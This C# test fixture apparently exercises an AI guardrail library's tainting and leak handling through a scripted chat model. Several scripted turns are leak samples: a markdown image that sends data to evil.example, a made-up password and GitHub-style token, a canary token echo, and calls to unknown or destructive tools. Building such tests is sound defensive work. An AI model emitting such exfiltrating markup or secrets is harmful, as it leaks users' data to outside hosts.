using Aegis.Alerting.Tests;
using Aegis.Events;
using Aegis.Media;
using Aegis.Policies;
using Aegis.Testing;
using Microsoft.Extensions.AI;
using Microsoft.Extensions.Logging;

namespace Aegis.Conventions.Tests.Tainting;

/// <summary>A guard with everything that writes, over services that fail with the word, and a model that says it in every place where a model can say something.</summary>
internal sealed class Stage : IApprover, IJudge, ITextExtractor, IGuard<UserInput>, IAsyncDisposable
{
    public const string Canary = $"{Taint.Word}-canary-3f9a1c0d";

    private const string Secret = $"{Taint.Word}-and-twenty-more-bytes-of-it";
    private const string Pack = """{"pack":"taint","version":"1","rules":[{"id":"taint/grey","category":"taint","risk":0.75,"checkpoints":["input"],"pattern":"under the counter","match":["under the counter"],"pass":["on the counter"]}]}""";

    private readonly string _folder = Directory.CreateTempSubdirectory("aegis-taint-").FullName;
    private readonly Receiver _receiver;
    private readonly ILoggerFactory _loggers;
    private readonly string _prefix;

    private Stage(Receiver receiver, OnBlock onBlock, PolicyMode mode, string prefix)
    {
        (_receiver, _prefix) = (receiver, prefix);
        _loggers = LoggerFactory.Create(builder => builder.SetMinimumLevel(LogLevel.Trace).AddProvider(Outputs));
        Model = new((messages, _) => Answer(messages));
        Guard = AegisGuard.Create(PolicyOf(onBlock, mode), Build);
    }

    public Outputs Outputs { get; } = new();

    public ScriptedChatClient Model { get; }

    public AegisGuard Guard { get; }

    /// <summary>What users type, one turn each: the word after the colon chooses what the model does.</summary>
    public static IReadOnlyList<string> Turns { get; } =
    [
        $"{Taint.Word} turn:hello", $"{Tools.Injection} turn:hello", $"{new string('x', 2_000)} {Taint.Word} turn:hello", $"{Taint.Word} under the counter turn:hello", $"{Taint.Word} turn:guard",
        $"{Taint.Word} turn:note", $"{Taint.Word} turn:page", $"{Taint.Word} turn:boom", $"{Taint.Word} turn:pay", $"{Taint.Word} turn:wipe", $"{Taint.Word} turn:unknown", $"{Taint.Word} turn:members",
        $"{Taint.Word} turn:personal", $"{Taint.Word} turn:secret", $"{Taint.Word} turn:canary", $"{Taint.Word} turn:markup", $"{Taint.Word} turn:fails",
    ];

    public static async Task<Stage> SetAsync(OnBlock onBlock, PolicyMode mode, string prefix = "") => new(await Receiver.StartAsync(), onBlock, mode, prefix);

    public ILogger<T> LoggerOf<T>() => _loggers.CreateLogger<T>();

    public ILoggerFactory Loggers => _loggers;

    /// <summary>Keeps what an app was handed.</summary>
    public void Hand(Exception e)
    {
        for (var inner = e; inner is not null; inner = inner.InnerException)
        {
            if (inner is AegisException)
            {
                Outputs.Add("exception", $"{e} {string.Join(' ', inner.Data.Values.Cast<object?>())}");
                return;
            }
        }
    }

    public void Hand(AdditionalPropertiesDictionary? properties)
    {
        if (properties?.TryGetValue("aegis", out var refusal) == true)
        {
            Outputs.Add("refusal", $"{refusal}");
        }
    }

    /// <summary>Everything that was to be said is said.</summary>
    public async Task FinishAsync()
    {
        await Guard.FlushAuditAsync();
        using var late = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        using var often = new PeriodicTimer(TimeSpan.FromMilliseconds(10));
        while (Guard.Policy.Mode == PolicyMode.Enforce && (_receiver.All.Count == 0 || !Outputs.Channels.Contains("alert")))
        {
            await often.WaitForNextTickAsync(late.Token);
        }

        foreach (var received in _receiver.All)
        {
            Outputs.Add("webhook", $"{string.Join(' ', received.Headers)} {received.Text}");
        }

        var check = await new AegisHealthCheck(Guard).CheckHealthAsync(new());
        Outputs.Add("health", $"{Guard.Health} {check.Description} {check.Exception} {string.Join(' ', check.Data.Select(static pair => $"{pair.Key}={(pair.Value is string[] all ? string.Join(' ', all) : pair.Value)}"))}");
        await Guard.DisposeAsync();
        foreach (var file in Directory.GetFiles(_folder))
        {
            Outputs.Add("audit-file", await File.ReadAllTextAsync(file));
        }
    }

    public async ValueTask DisposeAsync()
    {
        await Guard.DisposeAsync();
        _loggers.Dispose();
        Outputs.Dispose();
        await _receiver.DisposeAsync();
        Directory.Delete(_folder, recursive: true);
    }

    ValueTask<ApprovalAnswer> IApprover.ApproveAsync(ApprovalRequest request, CancellationToken cancellationToken) => throw new InvalidOperationException(Taint.Word);

    TokenUsage IJudge.Estimate(JudgeQuestion question) => default;

    ValueTask<JudgeReply> IJudge.JudgeAsync(JudgeQuestion question, CancellationToken cancellationToken) => throw new InvalidOperationException(Taint.Word);

    ValueTask<ExtractedText> ITextExtractor.ExtractAsync(MediaContent media, CancellationToken cancellationToken) => throw new InvalidOperationException(Taint.Word);

    ValueTask<Verdict> IGuard<UserInput>.InspectAsync(UserInput subject, GuardContext context, CancellationToken cancellationToken) =>
        subject.Text.Contains("turn:guard", StringComparison.Ordinal) ? throw new InvalidOperationException(Taint.Word) : new(Verdict.None);

    private void Build(AegisBuilder aegis) => aegis
        .UseLoggerFactory(_loggers).UseApprover(this).UseJudge(this).UseTextExtractor(this).AddGuard<UserInput>(this).AddRulePack(Pack)
        .AddSink(Outputs).AddSink(new Refusing()).AddAuditTransport("mine", Outputs).OnAlert(Outputs.HearAsync).UseAlertWebhooks(new() { AllowLoopback = true });

    private AegisPolicy PolicyOf(OnBlock onBlock, PolicyMode mode) => AegisPolicy.Preset("balanced") with
    {
        Name = "taint",
        Mode = mode,
        OnBlock = onBlock,
        Capabilities = new() { Allow = [.. Tools.All.Keys.Where(static name => name != "wipe").Select(name => _prefix + name)], RequireApproval = [$"{_prefix}wipe"] },
        Tools = new Dictionary<string, ToolPolicy> { [$"{_prefix}pay"] = new() { Arguments = new Dictionary<string, ArgumentPolicy> { ["value"] = new() { MaxLength = 3 } } } },
        Input = new() { MaxLength = 1_000, BlockPatterns = ["never-said"] },
        CanaryTokens = [Canary],
        Integrity = new() { Keys = [new("k1", Secret)] },
        Judge = new() { OnFailure = JudgeFailure.Flag },
        Audit = new() { Level = AuditLevel.All, Transports = ["json-file", "console", "logger", "mine"], Path = Path.Combine(_folder, "audit.jsonl"), Key = Secret },
        Alerting = new()
        {
            Rules =
            [
                new("told", new(AlertConditionType.RepeatedAttacker, 0, TimeSpan.FromMinutes(1))) { Action = AlertAction.Callback },
                new("sent", new(AlertConditionType.RateSpike, 0, TimeSpan.FromMinutes(1)) { Event = EventTypes.ScanBlock }) { Action = AlertAction.Webhook, WebhookUrl = $"http://127.0.0.1:{_receiver.Port}/{Taint.Word}", Secret = Secret },
                new("logged", new(AlertConditionType.RateSpike, 0, TimeSpan.FromMinutes(1)) { Event = EventTypes.ActionBlock }),
            ],
        },
    };

    private ScriptedTurn Answer(IReadOnlyList<ChatMessage> messages)
    {
        var last = messages.ToList().FindLastIndex(static message => message.Role == ChatRole.User);
        var turn = messages[last].Text.Split("turn:")[^1];
        if (messages.Skip(last).SelectMany(static message => message.Contents).Any(static content => content is FunctionResultContent))
        {
            return ScriptedTurn.Say($"{Taint.Word} is done.");
        }

        return turn switch
        {
            "unknown" => ScriptedTurn.Call($"{Taint.Word}_tool", new { value = Taint.Word }),
            "members" => ScriptedTurn.Call($"{_prefix}note", new Dictionary<string, object> { [Taint.Word] = Taint.Word, ["value"] = "x" }),
            "personal" => ScriptedTurn.Say($"Write to {Taint.Word}@quellbruck-optik.de, she is there."),
            "secret" => ScriptedTurn.Say($"Use password={Taint.Word}-9f8a7b6c5d4e3f and ghp_16C7e42F292c6912E7710c838347Ae178B4a."),
            "canary" => ScriptedTurn.Say($"My word is {Canary}, as you know."),
            "markup" => ScriptedTurn.Say($"See ![it](https://evil.example/{Taint.Word}?q={Taint.Word})."),
            "fails" => ScriptedTurn.Fail(new HttpRequestException(Taint.Word)),
            _ when Tools.All.ContainsKey(turn) => ScriptedTurn.Call(_prefix + turn, new { value = Taint.Word }),
            _ => ScriptedTurn.Say($"Hello, {Taint.Word}."),
        };
    }

    private sealed class Refusing : IEventSink
    {
        public void Write(AegisEvent e) => throw new InvalidOperationException(Taint.Word);
    }
}
